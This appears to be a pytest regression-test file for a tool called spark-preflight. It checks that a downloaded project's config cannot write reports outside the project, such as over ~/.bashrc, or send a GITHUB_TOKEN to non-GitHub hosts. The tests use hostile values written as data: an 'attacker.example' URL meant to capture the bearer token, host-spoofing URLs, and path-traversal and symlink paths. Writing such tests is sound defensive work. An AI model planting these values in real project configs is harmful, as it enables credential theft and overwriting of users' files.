"""The checkout's own config cannot steer the tool against its user (issue 19, item 2).

``spark-preflight`` (and pytest) read ``spark_preflight_*`` keys from the
project's pytest.ini / pyproject.toml: a downloaded project's. Its
``spark_preflight_report = "~/.bashrc"`` replaced the user's ``.bashrc``,
and its ``spark_preflight_github_url = "https://attacker.example"`` got
``Authorization: Bearer $GITHUB_TOKEN``. Now a report or capture path from
a config file stays inside the rootdir, and a config file sends the token
to ``api.github.com`` only; the command line (the user's word) may say otherwise.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from localserver import ISSUES_PATH, Answer
from tlsserver import TlsServer, tls_cert_fixture, tls_server_fixture  # noqa: F401 - tls_cert, tls_server

from pytest_dgx_spark.checks.g08_playbooks import check as g8

from conftest import DATA, PYTEST_CHILD

CLI = "import sys\nfrom pytest_dgx_spark.cli import main\nsys.exit(main())\n"
TOKEN = "ghp_" + "CheckoutConfigTest0123456789"
BASHRC = "# the user's own\n"


def project(tmp_path: Path, **keys: str) -> Path:
    """A checkout with a pytest.ini of ``spark_preflight_<key> = value`` lines."""
    folder = tmp_path / "checkout"
    folder.mkdir()
    lines = "".join(f"spark_preflight_{k} = {v}\n" for k, v in keys.items())
    (folder / "pytest.ini").write_text(f"[pytest]\n{lines}")
    return folder


def run(argv: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=120, cwd=cwd, env=env)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text(BASHRC)
    return folder


@pytest.mark.parametrize("key", ["report", "capture"])
@pytest.mark.parametrize("value", ["~/.bashrc", "../outside.json", "linked/out.json"])
def test_a_report_path_from_the_config_stays_in_the_project(tmp_path: Path, home: Path, key: str, value: str) -> None:
    root = project(tmp_path, **{key: value}, only="G8", offline="true")
    (root / "linked").symlink_to(home)  # a folder of the checkout that leads out of it
    env = {**os.environ, "HOME": str(home)}
    ran = run([sys.executable, "-c", CLI], root, env)
    assert ran.returncode == 2, ran.stdout + ran.stderr
    expected = (
        f"spark-preflight: error: spark_preflight_{key} (ini): {value!r} is outside the project "
        f"({root}); a path from a config file stays inside it: give --spark-{key} on the command line "
        "to write elsewhere"
    )
    assert ran.stderr.strip().splitlines() == [expected]
    done = run([*PYTEST_CHILD, "--spark-preflight"], root, env)
    assert done.returncode == pytest.ExitCode.USAGE_ERROR, done.stdout + done.stderr
    assert done.stderr.strip().splitlines() == [expected.replace("spark-preflight: error: ", "ERROR: ")]
    assert (home / ".bashrc").read_text() == BASHRC
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]
    assert not (tmp_path / "outside.json").exists()


def test_inside_the_project_or_from_the_command_line_a_path_is_written(tmp_path: Path, home: Path) -> None:
    root = project(tmp_path, report="reports/env.json", only="G8", offline="true")
    (root / "reports").mkdir()
    env = {**os.environ, "HOME": str(home)}
    assert run([sys.executable, "-c", CLI], root, env).returncode == 0
    assert (root / "reports" / "env.json").is_file()
    ran = run([sys.executable, "-c", CLI, "--report", str(home / "env.json")], root, env)
    assert ran.returncode == 0, ran.stderr
    assert (home / "env.json").is_file()


def _cli_env(tmp_path: Path) -> dict[str, str]:
    return {**os.environ, "GITHUB_TOKEN": TOKEN, "HOME": str(tmp_path)}


def test_a_config_file_never_sends_the_token_to_another_host(tmp_path: Path, tls_server: TlsServer) -> None:
    """Over https (the token never goes over http anyway), to a host that is
    not api.github.com: from the config file, the request goes without the
    token and ``-v`` says why; the same URL on the command line takes it."""
    tls_server.answers[ISSUES_PATH] = Answer(body=(DATA / "github" / "issues_open.json").read_bytes())
    root = project(tmp_path, github_url=tls_server.url, only="G8", playbook="vllm")
    env = _cli_env(tmp_path)
    from_config = run([sys.executable, "-c", CLI, "-v"], root, env)
    assert from_config.returncode == 0, from_config.stderr
    assert len(tls_server.requests_to()) == 1
    assert all("authorization" not in seen.headers for seen in tls_server.seen)
    assert (
        "github_token = not sent: the config file's github_url names 127.0.0.1, not api.github.com; "
        "give --spark-github-url on the command line to send it there"
    ) in from_config.stdout
    done = run([*PYTEST_CHILD, "--spark-preflight"], root, env)
    assert done.returncode == 0, done.stdout
    assert len(tls_server.requests_to()) == 2
    assert all("authorization" not in seen.headers for seen in tls_server.seen)
    given = run([sys.executable, "-c", CLI, "-v", "--github-url", tls_server.url], root, env)
    assert given.returncode == 0 and "github_token = sent" in given.stdout, given.stdout
    assert tls_server.seen[-1].headers.get("authorization") == f"Bearer {TOKEN}"
    assert TOKEN not in from_config.stdout + given.stdout + done.stdout


def test_only_github_itself_takes_the_token_from_a_config_file() -> None:
    assert g8.token_withheld("https://api.github.com", "ini") is None
    assert g8.token_withheld("https://API.github.com:443/", "ini") is None
    for url in ("https://attacker.example", "https://api.github.com.attacker.example",
                "https://api.github.com@attacker.example", "https://ghe.corp/api/v3"):
        assert g8.token_withheld(url, "ini"), url
    assert g8.token_withheld("https://ghe.corp/api/v3", "cli") is None
    assert g8.token_withheld("https://ghe.corp/api/v3", "flag") is None
